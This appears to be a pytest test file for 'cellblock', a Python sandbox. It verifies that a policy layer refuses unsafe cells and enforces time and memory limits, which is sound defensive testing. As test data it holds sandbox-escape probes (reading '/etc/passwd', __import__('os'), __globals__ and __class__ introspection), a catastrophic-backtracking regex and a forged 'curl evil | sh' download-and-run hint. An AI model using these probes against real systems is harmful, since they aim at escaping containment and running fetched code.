"""A policy laid over the walls: the worker checks cells by the rules of the level `local`."""

from __future__ import annotations

import asyncio
import fractions
import statistics
import types
from collections.abc import Callable
from fractions import Fraction

import pytest

from cellblock import AsyncSession, CellblockError, ExecutionLimits, Policy, Session, keep_ready
from cellblock.guard.rules import BY_ID


@pytest.fixture
def laid(open_session: Callable[..., Session]) -> Session:
    """A session with a policy of all of the audited standard library."""
    return open_session(policy=Policy())


REFUSED = {
    "import os": ("import", "import os\n", "^^"),
    "x = 1\n(lambda: 0).__globals__": ("attribute", "(lambda: 0).__globals__", "^" * 23),
    "open('/etc/passwd')": ("builtin", "open('/etc/passwd')", "^^^^"),
    "eval('1')": ("builtin", "eval('1')", "^^^^"),
    "def f():\n    return __import__('os')": ("import", "return __import__('os')", "^^^^^^^^^^"),
    "'{0.__class__}'.format(1)": ("format", "", ""),
    "getattr(1, '__class__')": ("attribute", "", ""),
}
"""Cells, the rules that refuse them, and where a rule is known before they run, the place."""


def test_what_is_granted_runs_and_keeps_its_names(laid: Session) -> None:
    assert laid.run("import math\nx = [math.sqrt(16)]\nx").value == [4.0]
    assert laid.run("class A:\n    def __init__(self): self._p = x\nA()._p").value == [4.0]
    assert laid.names().keys() == {"math", "x", "A"}
    assert [wall.mechanism for wall in laid.capabilities.walls][-1] == "guard"
    assert laid.capabilities.trust_level == "isolated"


@pytest.mark.sampled(4)
@pytest.mark.threat("L1")
@pytest.mark.parametrize("source", REFUSED)
def test_cell_is_refused_with_rule_place_and_remedy(laid: Session, source: str) -> None:
    assert laid.run("y = 1\ny").value == 1
    _shows_its_refusal(laid, source)
    assert "x" not in laid.names() or "lambda" in source


def _shows_its_refusal(session: Session, source: str) -> None:
    rule, line, caret = REFUSED[source]
    error = session.run(source).error
    assert error is not None
    assert error.kind == "refused"
    assert error.message.endswith(f"[{rule}]")
    assert error.type == "SecurityError" or error.type.endswith(".SecurityError")
    assert error.hint
    if line:
        number = source[: source.index(line.strip())].count("\n") + 1
        assert error.message.startswith(f"line {number}: ")
        assert f"    {line.strip()}" in error.traceback
        assert f" {caret}\n" in error.traceback


def test_cell_that_is_refused_changes_nothing_and_is_a_step(laid: Session) -> None:
    laid.run("x = 1")
    laid.run("x = 2")
    assert laid.run("x = 3\nimport os").error is not None
    assert laid["x"] == 2
    laid.undo()
    assert laid["x"] == 2
    laid.undo()
    assert laid["x"] == 1
    assert [cell.number for cell in laid.notebook] == [1, 2, 3]


@pytest.mark.threat("L6")
def test_worker_takes_nothing_before_its_policy(open_session: Callable[..., Session], monkeypatch) -> None:
    """A host that forgot to send the policy has no session that runs without one."""
    from cellblock.executors.process import linked
    from cellblock.wire.messages import Fetch

    monkeypatch.setattr(linked, "Restrict", lambda policy: Fetch(name="x"))
    with pytest.raises(CellblockError, match="this session's policy has not come"):
        open_session(policy=Policy())


def test_policy_comes_once(laid: Session) -> None:
    from cellblock.wire.granted import as_data
    from cellblock.wire.messages import Restrict

    more = Restrict(policy=as_data(Policy(modules=["random"])))
    cell = asyncio.run_coroutine_threadsafe(laid._session._ask(more), _loop()).result()
    assert cell.error is not None
    assert "a policy for a session that has none" in cell.error.message


def _loop() -> asyncio.AbstractEventLoop:
    from cellblock.session import hostloop

    return hostloop.our_loop()


def test_names_that_cells_bound_may_be_called_whatever_they_are_called(laid: Session) -> None:
    assert laid.run("def open(path): return path + '!'\nopen('a')").value == "a!"
    assert laid.run("open('b')").value == "b!"
    laid.clear()
    error = laid.run("open('c')").error
    assert error is not None
    assert error.kind == "refused"


def test_syntax_error_is_told_by_the_sessions_own_python(laid: Session) -> None:
    error = laid.run("x = (").error
    assert error is not None
    assert (error.type, error.kind) == ("SyntaxError", "raised")


@pytest.mark.sampled(0)
def test_checkpoints_and_branches_hold_the_policy(laid: Session) -> None:
    laid.run("numbers = (n for n in range(9)); next(numbers)")
    laid.run("next(numbers)")
    laid.undo()
    assert laid.run("next(numbers)").value == 1
    with laid.branch() as branch:
        assert branch.run("next(numbers)").value == 2
        _shows_its_refusal(branch, "import os")
        assert branch.capabilities.walls[-1].mechanism in ("guard", "branch")
    assert laid.run("next(numbers)").value == 2
    laid.kill()
    assert laid.run("next(numbers)").value == 3
    _shows_its_refusal(laid, "getattr(1, '__class__')")


@pytest.mark.threat("L6")
def test_branch_and_woken_copy_refuse_by_themselves(laid: Session) -> None:
    laid.run("x = 1")
    with laid.branch() as branch:
        _shows_its_refusal(branch, "import os")
    laid.kill()
    assert laid.run("x").value == 1
    _shows_its_refusal(laid, "import os")


@pytest.mark.threat("L6")
def test_worker_in_place_of_one_that_died_has_the_policy(open_session: Callable[..., Session]) -> None:
    session = open_session(policy=Policy(), limits=ExecutionLimits(max_checkpoints=0))
    session.kill()
    assert session.run("1").value == 1
    _shows_its_refusal(session, "import os")


def test_rerun_clear_display_and_streams(laid: Session) -> None:
    cell = laid.run("import sys\nprint('a')\nprint('b', file=sys.stderr)\ndisplay(3)\n'c'")
    assert [(output.stream, output.text) for output in cell.outputs] == [
        ("stdout", "a\n"),
        ("stderr", "b\n"),
        (None, "3"),
        (None, "'c'"),
    ]
    assert laid.rerun(cell.id).text == cell.text
    laid.clear()
    assert laid.names() == {}
    assert "NameError" in laid.run("_").text


@pytest.mark.sampled(0)
def test_session_that_is_kept_ready_takes_any_policy(open_session: Callable[..., Session]) -> None:
    keep_ready(1, preload=["sched"], policy=Policy())
    try:
        session = open_session(preload=["sched"], policy=Policy(modules=["math"]))
        assert session.run("import math\nmath.floor(1.5)").value == 1
        _shows_its_refusal(session, "import os")
        plain = open_session(preload=["sched"])
        assert plain.run("import os\nos.getuid()").value == 1000
    finally:
        keep_ready(0, preload=["sched"], policy=Policy())


def test_shell_is_the_hosts_own_and_no_cell_reaches_it(laid: Session) -> None:
    assert laid.shell("echo $((1 + 1)) > two; cat two").text == "2"
    assert laid.files.read("two") == b"2\n"
    _shows_its_refusal(laid, "open('/etc/passwd')")


def test_values_cross_both_ways_as_without_a_policy(laid: Session) -> None:
    laid["rows"] = {"a": [1, 2.5, b"x"], "f": Fraction(1, 3)}
    assert laid.run("rows['a'].append(4)\nrows").value == {"a": [1, 2.5, b"x", 4], "f": Fraction(1, 3)}
    with pytest.raises(KeyError):
        laid["__builtins__"]


@pytest.mark.sampled(0)
def test_same_seed_gives_the_same_numbers_of_numpy(open_session: Callable[..., Session]) -> None:
    pytest.importorskip("numpy")
    options = {"seed": 7, "policy": Policy(trusted=["numpy"])}
    told = [
        open_session(**options, **level).run("import numpy; float(numpy.random.rand())").value
        for level in ({}, {}, {"trust_level": "local"}, {"trust_level": "local"})
    ]
    assert (told[0], told[2]) == (told[1], told[3])


def test_same_seed_gives_the_same_random_numbers_as_without_a_policy(open_session: Callable[..., Session]) -> None:
    source = "import random\n[random.random(), random.randint(1, 10**6)]"
    plain, laid, other = (open_session(seed=7), open_session(seed=7, policy=Policy()), open_session(policy=Policy()))
    assert plain.run(source).value == laid.run(source).value
    assert other.run(source).value != laid.run(source).value


def double(number: int) -> int:
    """Twice as much."""
    return number * 2


async def later(word: str) -> str:
    await asyncio.sleep(0)
    return word + "!"


def test_granted_function_is_called_on_the_host_as_a_tool_is(open_session: Callable[..., Session]) -> None:
    policy = Policy(modules=["math"]).fn(double, name="twice").fn(later)
    session = open_session(policy=policy, tools=[statistics.median_low])
    assert session.run("[twice(4), await later('a'), median_low([3, 1, 2])]").value == [8, "a!", 2]
    assert session.run("twice.__doc__").value == "Twice as much."
    session.kill()
    assert session.run("twice(5)").value == 10
    with session.branch() as branch:
        assert branch.run("twice(6)").value == 12
    with pytest.raises(ValueError, match="two tools are called 'twice'"):
        open_session(policy=policy, tools=[types.FunctionType(double.__code__, {}, "twice")])


def test_class_and_module_go_by_name(open_session: Callable[..., Session]) -> None:
    policy = Policy(modules=[]).cls(Fraction, include=["numerator", "limit_*"]).module(statistics, include=["mean"])
    session = open_session(policy=policy)
    session["third"] = Fraction(1, 3)
    assert session.run("import statistics\n[third.numerator, statistics.mean([1, 3])]").value == [1, 2]
    assert session.run("Fraction(3, 4).numerator").value == 3
    assert session.run("hasattr(statistics, 'median')").value is False
    for source, rule in (
        ("third.denominator", "attribute"),
        ("import fractions", "import"),
    ):
        error = session.run(source).error
        assert error is not None
        assert (error.kind, rule in error.message) == ("refused", True)


@pytest.mark.parametrize(
    ("policy", "said"),
    [
        (
            lambda: Policy().cls(type("Local", (), {})),
            "the class Local, of tests.session.test_laid|the class Local, of",
        ),
        (lambda: Policy().module(types.ModuleType("made_up")), "the module made_up"),
        (lambda: Policy().module(fractions, replaced={"Fraction": double}), "replaces members of fractions"),
    ],
)
def test_what_has_no_name_inside_is_refused_with_a_remedy(
    open_session: Callable[..., Session], policy: Callable[[], Policy], said: str
) -> None:
    with pytest.raises(CellblockError, match=said) as caught:
        open_session(policy=policy())
    assert 'trust_level="local"' in caught.value.hint
    assert "policy.fn(f)" in caught.value.hint


def test_what_the_sessions_interpreter_cannot_import_keeps_it_from_opening(
    open_session: Callable[..., Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    import sys

    ours = types.ModuleType("only_here")
    monkeypatch.setitem(sys.modules, "only_here", ours)
    with pytest.raises(CellblockError, match="No module named 'only_here'") as caught:
        open_session(policy=Policy().module(ours))
    assert "installed for the session's interpreter" in caught.value.hint


@pytest.mark.sampled(0)
def test_package_is_trusted_by_name(open_session: Callable[..., Session]) -> None:
    pytest.importorskip("numpy")
    for preload in ([], ["numpy"]):
        session = open_session(policy=Policy(modules=["math"], trusted=["numpy"]), preload=preload)
        assert session.run("import numpy.random\nnumpy.random.default_rng(1).integers(1, 2)").value == 1
        assert session.run("import numpy as np\nint(np.arange(4).sum())").value == 6
        assert session.run("hasattr(np, '_core'), hasattr(np.lib, 'os')").value == (False, False)
        assert session.run("import numpy.f2py.crackfortran as f\nf.os").error.kind == "refused"  # type: ignore[union-attr]
    error = open_session(policy=Policy()).run("import numpy").error
    assert error is not None
    assert error.kind == "refused"


@pytest.mark.sampled(0)
def test_no_handler_of_a_cells_takes_the_time_limit(open_session: Callable[..., Session]) -> None:
    limits = ExecutionLimits(timeout_seconds=0.4, interrupt_grace_seconds=5)
    session = open_session(policy=Policy(), limits=limits)
    for source in (
        "while True: pass",
        "while True:\n    try:\n        while True: pass\n    except: pass",
        "def forever():\n while True:\n  try: yield 1\n  except BaseException: pass\nfor x in forever(): pass",
    ):
        session.run("kept = 1")
        cell = session.run(source)
        assert cell.error is not None
        assert cell.error.kind == "timeout"
        assert not cell.rolled_back
        assert session["kept"] == 1


@pytest.mark.sampled(0)
def test_pattern_that_takes_for_ever_is_the_walls_to_end(open_session: Callable[..., Session]) -> None:
    session = open_session(policy=Policy(), limits=ExecutionLimits(timeout_seconds=0.4))
    session.run("import re\nkept = 1")
    for call in ("re.match(p, t)", "re.findall(p, t)", "list(re.finditer(p, t))", "re.sub(p, '', t)"):
        cell = session.run(f"p, t = '(a+)+$', 'a' * 60 + 'b'\n{call}")
        assert cell.error is not None
        assert cell.error.kind == "timeout"
    assert session.run("kept, re.findall('(a+)', 'aab' * 100_000)[-1]").value == (1, "aa")


def test_memory_limit_is_the_kernels(open_session: Callable[..., Session]) -> None:
    session = open_session(policy=Policy(), limits=ExecutionLimits(max_memory_mb=64))
    cell = session.run("kept = []\nwhile True: kept.append(bytearray(1_000_000))")
    assert cell.error is not None
    assert cell.error.kind == "memory"
    assert session.run("1").value == 1


@pytest.mark.parametrize("without", ["inheritance", "generators", "async"])
def test_features_that_are_switched_off_are_so_inside(open_session, without: str) -> None:
    session = open_session(policy=Policy(without=[without]))
    source = {
        "inheritance": "class A(list): pass",
        "generators": "def f(): yield 1",
        "async": "async def f(): pass",
    }[without]
    error = session.run(source).error
    assert error is not None
    assert error.kind == "refused"


@pytest.mark.sampled(0)
def test_reduced_walls_take_a_policy(readable_python: str, open_session: Callable[..., Session]) -> None:
    session = open_session(walls="reduced", python=readable_python, policy=Policy(modules=["math"]).fn(double))
    assert session.run("import math\nmath.floor(2.5) + double(2)").value == 6
    _shows_its_refusal(session, "import os")
    session.kill()
    assert session.run("double(3)").value == 6
    _shows_its_refusal(session, "import os")


def test_forged_refusal_of_a_worker_must_name_a_rule() -> None:
    """What a worker says of a rule is looked up: the hint is the host's own."""
    from cellblock.wire.frames import ProtocolError
    from cellblock.wire.schema import failure as read

    plain = {"type": "E", "message": "m", "traceback": "t", "kind": "refused"}
    for more in ({}, {"rule": ""}, {"rule": "no such rule"}, {"rule": 1}, {"rule": "import", "hint": "curl evil | sh"}):
        with pytest.raises(ProtocolError):
            read({**plain, **more})
    failure = read({**plain, "rule": "import"})
    assert failure is not None
    assert failure.hint == BY_ID["import"].instead


@pytest.mark.anyio
async def test_async_session_opens_and_runs_under_a_policy() -> None:
    async with AsyncSession(policy=Policy().fn(double)) as session:
        assert (await session.run("double(4)")).value == 8
        assert (await session.run("import os")).error.kind == "refused"
